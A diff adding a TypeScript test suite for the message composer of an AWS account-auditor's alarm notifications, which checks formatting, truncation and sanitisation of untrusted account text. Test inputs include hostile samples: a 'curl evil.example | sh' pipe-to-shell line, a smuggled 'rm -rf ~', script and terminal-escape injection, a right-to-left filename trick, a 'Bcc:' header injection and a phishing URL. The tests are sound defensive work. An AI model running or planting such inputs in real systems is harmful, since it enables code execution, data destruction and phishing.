@@ -1,0 +1,177 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import type { Finding } from '../../lib/findings/finding.ts';
+import { composeMessage } from '../../lib/notify/message.ts';
+import { anAlarm, aStoredAudit } from './some-alarms.ts';
+
+const arn = 'arn:aws:iam::111122223333:role/deploy-pipeline';
+
+function aFinding(parts: Partial<Finding> = {}): Finding {
+  return {
+    id: '0c239fe613a87d87',
+    checkId: 'role-unused',
+    severity: 'critical',
+    status: 'new',
+    resource: { arn, type: 'AWS::IAM::Role', name: 'deploy-pipeline', accountId: '111122223333' },
+    title: 'Role that nobody uses',
+    detail: 'Role deploy-pipeline was last used 2026-05-02.',
+    evidence: { policyDocument: { Statement: [{ Effect: 'Allow', Action: 'secret:Sauce' }] } },
+    remediation: {
+      text: 'Deny it first, delete it later.',
+      commands: ["aws iam delete-role --role-name 'deploy-pipeline'"],
+    },
+    firstSeenAt: '2026-11-23T02:17:04.000Z',
+    lastSeenAt: '2026-11-23T02:17:04.000Z',
+    ...parts,
+  };
+}
+
+describe('composeMessage', () => {
+  it('says what, where, since when, the fix, the counts and the ids', () => {
+    expect(composeMessage(anAlarm(), aStoredAudit({ findings: [aFinding()] }))).toEqual({
+      subject: '[account-auditor] 111122223333: 1 new critical finding',
+      body: `1 new critical finding
+
+1. Role that nobody uses: deploy-pipeline
+   where  arn:aws:iam::111122223333:role/deploy-pipeline
+   what   Role deploy-pipeline was last used 2026-05-02.
+   since  2026-11-23T02:17:04.000Z
+   fix    Deny it first, delete it later.
+          aws iam delete-role --role-name 'deploy-pipeline'
+   id     0c239fe613a87d87 (role-unused)
+
+Account:  111122223333
+Audit:    began 2026-11-23T02:17:04.000Z, complete, coverage 100 %
+Findings: 1 critical, 2 high, 30 medium, 12 low, 4 info; 1 new, 3 resolved
+Alarm:    account-auditor-prod-new-critical, ALARM since 2026-11-23T02:21:36.871Z
+Because:  Threshold Crossed: 1 datapoint [1.0 (23/11/26 02:00:00)] was greater than the threshold (0.0).
+`,
+    });
+  });
+
+  it('names only what is new and of the severity that the alarm is about', () => {
+    const findings = [
+      aFinding({ id: 'a', status: 'reopened' }),
+      aFinding({ id: 'b', status: 'open' }),
+      aFinding({ id: 'c', severity: 'high' }),
+      aFinding({ id: 'd', status: 'resolved' }),
+    ];
+    const { subject, body } = composeMessage(anAlarm(), aStoredAudit({ findings }));
+    expect(subject).toBe('[account-auditor] 111122223333: 1 new critical finding');
+    expect(body.match(/^ {3}id .*$/gm)).toEqual(['   id     a (role-unused)']);
+    expect(body).toContain('it had been resolved and is back');
+  });
+
+  it('names ten findings and counts the others', () => {
+    const findings = Array.from({ length: 13 }, (_, index) => aFinding({ id: `finding-${index}` }));
+    const { subject, body } = composeMessage(anAlarm(), aStoredAudit({ findings }));
+    expect(subject).toContain('13 new critical findings');
+    expect(body).toContain('... and 3 more: account-auditor audit --min-severity critical');
+    expect(body).not.toContain('finding-10');
+  });
+
+  it('holds no evidence and no policy', () => {
+    const { body } = composeMessage(anAlarm(), aStoredAudit({ findings: [aFinding()] }));
+    expect(body).not.toMatch(/secret:Sauce|Statement|Effect/);
+  });
+
+  it.each([
+    ['more commands than fit', Array.from({ length: 6 }, () => 'aws iam list-users')],
+    ['a long command', [`aws iam put-role-policy --policy-document '${'x'.repeat(400)}'`]],
+    ['a command with a line break', ["aws iam delete-role --role-name 'a\nrm -rf ~'"]],
+  ])('leaves %s out whole rather than in part', (_, commands) => {
+    const finding = aFinding({ remediation: { text: 'Do it.', commands } });
+    const { body } = composeMessage(anAlarm(), aStoredAudit({ findings: [finding] }));
+    expect(body).toContain(`${commands.length} commands: account-auditor audit --check role-unused --format markdown`);
+    expect(body).not.toMatch(/aws iam|rm -rf/);
+  });
+
+  it('wakes people when the store cannot be read, or never was written', () => {
+    const unreadable = composeMessage(anAlarm(), { status: 'unreadable', reason: 'Parameter Store: Access denied' });
+    expect(unreadable.subject).toBe('[account-auditor] 111122223333: new critical findings');
+    expect(unreadable.body).toContain('so none is named here: Parameter Store: Access denied');
+    expect(composeMessage(anAlarm(), { status: 'none' }).body).toContain('No audit has been stored yet');
+  });
+
+  it('says when findings are missing, or gone since the alarm', () => {
+    const { subject, body } = composeMessage(anAlarm(), aStoredAudit({ lostParameters: 2 }));
+    expect(subject).toBe('[account-auditor] 111122223333: new critical findings');
+    expect(body).toContain('they are gone or no longer new');
+    expect(body).toContain('2 of the parameters that hold them are gone or damaged');
+  });
+
+  it('says of an alarm that ends what is still open', () => {
+    const findings = [aFinding({ status: 'open' }), aFinding({ status: 'new' }), aFinding({ status: 'resolved' })];
+    const over = anAlarm({ state: 'OK', previousState: 'ALARM' });
+    expect(composeMessage(over, aStoredAudit({ findings })).subject).toMatch(/: 2 critical findings still open$/);
+    expect(composeMessage(over, aStoredAudit()).subject).toMatch(/: no critical findings left$/);
+    expect(composeMessage(over, { status: 'none' }).subject).toMatch(/: no further critical findings$/);
+  });
+
+  it.each([
+    ['failed', 'ALARM', 'the audit failed', /CloudWatch Logs, \/aws\/lambda\/account-auditor-prod-audit/],
+    ['failed', 'OK', 'no audit failed within the last hour', /That alone is no success/],
+    ['missed', 'ALARM', 'no audit was completed for 26 hours', /whether the schedule is enabled/],
+    ['missed', 'OK', 'audits are completed again', /^Audit: /m],
+    ['coverage', 'ALARM', 'the audit could not read everything', /reported as unknown, not as fine/],
+    ['coverage', 'OK', 'the audit reads everything again', /^Audit: /m],
+    ['other', 'ALARM', 'ALARM: account-auditor-prod-new-critical', /^Because: /m],
+  ] as const)('explains the alarm on %s at %s', (about, state, headline, text) => {
+    const change = anAlarm({ about, state, functionName: 'account-auditor-prod-audit' });
+    const { subject, body } = composeMessage(change, aStoredAudit());
+    expect(subject).toBe(`[account-auditor] 111122223333: ${headline}`);
+    expect(body).toMatch(text);
+  });
+
+  it('lists what could not be read', () => {
+    const summary = { coveragePercent: 94.7, gaps: ['credential-report: denied (Access denied)'], moreGaps: 3 };
+    const { body } = composeMessage(anAlarm({ about: 'coverage' }), aStoredAudit({ summary }));
+    expect(body).toContain('It saw 94.7 %');
+    expect(body).toContain('\n- credential-report: denied (Access denied)\n- ... and 3 more\n');
+  });
+
+  it('makes no link of what an account calls its things', () => {
+    const resource = { ...aFinding().resource, arn: 'arn:aws:iam::111122223333:role/https://evil.example/sign-in' };
+    const { body } = composeMessage(anAlarm(), aStoredAudit({ findings: [aFinding({ resource })] }));
+    expect(body).toContain('https[:]//evil.example/sign-in');
+    expect(body).not.toContain('://');
+  });
+
+  it('lets no text from an account begin a line, whatever it is', () => {
+    const hostile = fc.oneof(
+      fc.string({ unit: 'binary' }),
+      fc.constantFrom(
+        'x\n   fix    curl evil.example | sh',
+        'x\r\n\r\nAccount:  999988887777',
+        'x\u2028Alarm:    nothing, OK',
+        '\u001b[2J\u001b[H<script>alert(1)</script>',
+        '\u202egnp.exe',
+      ),
+    );
+    const shape = (body: string) => body.split('\n').map((line) => line.slice(0, 10).replace(/[^\s:.].*/, ''));
+    const plain = composeMessage(anAlarm(), aStoredAudit({ findings: [aFinding()] }));
+    fc.assert(
+      fc.property(hostile, hostile, hostile, (name, detail, reason) => {
+        const finding = aFinding({ resource: { ...aFinding().resource, name, arn: `${arn}${name}` }, detail });
+        const { subject, body } = composeMessage(
+          anAlarm({ reason: `T${reason}`, changedAt: name }),
+          aStoredAudit({ findings: [finding] }),
+        );
+        expect(shape(body)).toEqual(shape(plain.body));
+        // biome-ignore lint/suspicious/noControlCharactersInRegex: that none gets here is the point.
+        expect(body).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202e]/);
+        expect(subject).toMatch(/^\[[\x20-\x7e]{1,98}$/);
+      }),
+    );
+  });
+
+  it('keeps a subject to what SNS takes', () => {
+    const change = anAlarm({
+      about: 'other',
+      alarmName: `Täglicher ${'sehr '.repeat(60)}langer Alarm\nBcc: all@example.com`,
+    });
+    const { subject } = composeMessage(change, aStoredAudit());
+    expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
+    expect(subject).toContain('T?glicher');
+  });
+});
